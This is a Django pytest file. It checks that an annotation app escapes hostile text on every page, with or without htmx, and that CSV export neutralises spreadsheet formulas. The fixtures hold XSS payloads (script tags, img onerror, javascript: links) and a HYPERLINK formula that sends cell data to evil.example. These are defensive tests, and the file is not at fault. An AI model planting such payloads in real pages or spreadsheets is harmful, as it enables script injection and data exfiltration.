"""Script tags, ``javascript:`` URLs, raw HTML and spreadsheet formulas in item text, LLM output, names and provenance
are shown as text on every page and stay inert in every export."""
import csv
import io
import json

import pytest
from django.urls import reverse

from annotation.models import Label, Project, Status
from generation.models import GenerationJob, JobEvent, JobMode, JobStatus
from tests.support.factories import make_item

SCRIPT = "<script>alert('xss')</script>"
IMG = "<img src=x onerror=alert(1)>"
LINK = '<a href="javascript:alert(1)">click</a>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
HOSTILE = f"{SCRIPT} {IMG} {LINK} javascript:alert(2)"
LIVE = ["<script>alert", "<img src=x", "onerror=alert(1)>", 'href="javascript:']


@pytest.fixture
def hostile(project, lead, annotator):
    Project.objects.filter(pk=project.pk).update(name=f"Proj {SCRIPT}", description=HOSTILE)
    Label.objects.filter(project=project, name="positive").update(description=IMG)
    job = GenerationJob.objects.create(project=project, created_by=lead, mode=JobMode.LABEL_CONDITIONED,
                                       provider="openai", model_name=SCRIPT, config={}, requested=2,
                                       status=JobStatus.SUCCEEDED, produced=2)
    JobEvent.objects.create(job=job, kind="malformed", message=f"batch 1: {IMG}", data={"raw": HOSTILE})
    queued = make_item(project, HOSTILE, proposed=("positive",), generation_job_id=job.id, ambiguity=0.9,
                       provenance={"job": job.id, "raw": SCRIPT, "model": LINK}, model_scores={"margin": 0.1})
    formula = make_item(project, FORMULA, status=Status.ACCEPTED, proposed=(), final_labels=["negative"],
                        generation_job_id=job.id)
    return {"project": project, "job": job, "queued": queued, "formula": formula}


def pages(h):
    p, job, item = h["project"].id, h["job"].id, h["queued"].id
    return {
        "annotator": [reverse("home"), reverse("project_detail", args=[p]), reverse("queue", args=[p])],
        "lead": [reverse("item_list", args=[p]), reverse("item_detail", args=[p, item]),
                 reverse("dashboard", args=[p]), reverse("generation_jobs", args=[p]),
                 reverse("generation_job", args=[p, job]), reverse("generation_inspect", args=[p, job]),
                 reverse("labels", args=[p]), reverse("project_settings", args=[p]), reverse("export", args=[p])],
    }


def test_hostile_text_is_escaped_on_every_page(request, client, hostile):
    for who, urls in pages(hostile).items():
        client.force_login(request.getfixturevalue(who))
        for url in urls:
            for htmx in (False, True):
                response = client.get(url, headers={"HX-Request": "true"} if htmx else {})
                assert response.status_code == 200, url
                body = response.content.decode()
                live = [marker for marker in LIVE if marker in body]
                assert live == [], f"{url} (htmx={htmx}) renders {live} unescaped"
                if not htmx:
                    assert "&lt;script&gt;" in body, url  # the hostile text was on the page, as text


def test_the_queue_shows_the_hostile_item_as_text(client, hostile, annotator):
    client.force_login(annotator)
    body = client.get(reverse("queue", args=[hostile["project"].id])).content.decode()
    assert "&lt;img src=x onerror=alert(1)&gt;" in body and "javascript:alert(2)" in body


def test_csv_export_neutralises_formulas_and_jsonl_keeps_the_raw_text(client, hostile, lead):
    client.force_login(lead)
    url = reverse("export_download", args=[hostile["project"].id])
    # Everything, not the verified default: the hostile item is still waiting for review.
    response = client.get(url, {"format": "csv", "provenance": "on", "include": "all"})
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))}
    assert rows[str(hostile["formula"].id)]["text"] == "'" + FORMULA
    assert rows[str(hostile["queued"].id)]["text"] == HOSTILE  # not a formula: kept as it is, and never HTML
    response = client.get(url, {"format": "jsonl", "include": "all"})
    assert response["Content-Type"].startswith("application/jsonl") and response["Content-Disposition"]
    lines = [json.loads(line) for line in b"".join(response.streaming_content).decode().splitlines()]
    assert {line["text"] for line in lines} == {HOSTILE, FORMULA}
